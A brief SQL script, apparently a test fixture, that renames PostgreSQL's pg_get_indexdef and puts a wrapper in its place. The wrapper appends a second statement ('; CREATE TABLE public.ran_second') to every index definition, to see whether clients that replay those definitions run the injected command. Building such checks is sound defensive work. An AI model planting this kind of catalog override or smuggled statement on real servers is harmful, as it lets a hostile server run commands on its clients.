-- On the source, by a superuser there: definitions of indexes with a second statement. A server may answer as it likes; here
-- the function that all clients ask is replaced.
SET allow_system_table_mods TO on;

ALTER FUNCTION pg_catalog.pg_get_indexdef(oid) RENAME TO pg_get_indexdef_of_old;

CREATE FUNCTION pg_catalog.pg_get_indexdef(oid) RETURNS text LANGUAGE sql STABLE AS $$
    SELECT pg_catalog.pg_get_indexdef_of_old($1) || '; CREATE TABLE public.ran_second (id int)'
$$;
